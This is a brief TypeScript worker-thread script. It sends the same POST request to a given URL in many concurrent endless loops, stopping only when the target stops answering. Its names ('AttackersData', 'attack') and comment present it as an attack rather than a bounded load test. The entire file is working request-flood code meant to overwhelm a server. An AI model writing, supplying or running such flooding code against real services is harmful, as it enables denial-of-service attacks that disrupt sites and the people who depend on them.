import { parentPort, workerData } from 'node:worker_threads';

export interface AttackersData {
  readonly url: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly body: string;
  /** How many requests are under way at a time. */
  readonly count: number;
}

const { url, headers, body, count }: AttackersData = workerData;
const statuses = new Set<number>();

/** Sends the body again and again, until nobody answers. */
async function attack(): Promise<void> {
  for (;;) {
    try {
      const response = await fetch(url, { method: 'POST', headers, body });
      await response.arrayBuffer();
      statuses.add(response.status);
    } catch {
      return;
    }
  }
}

await Promise.all(Array.from({ length: count }, attack));
parentPort?.postMessage([...statuses]);
